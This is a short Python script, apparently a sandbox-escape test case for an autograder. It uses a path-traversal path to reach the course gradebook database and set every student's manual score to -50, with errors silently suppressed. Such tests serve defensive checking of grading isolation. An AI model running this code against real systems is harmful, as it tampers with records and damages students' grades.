# Takes points from another student in the gradebook.
# wins: change gradebook
# %% end
import contextlib
import sqlite3

for path in ("../../../gradebook.db", "@COURSE@/gradebook.db"):
    with contextlib.suppress(sqlite3.Error):
        with contextlib.closing(sqlite3.connect(f"file:{path}?mode=rw", uri=True)) as db:
            db.execute("update grade set manual_score = -50")
            db.commit()
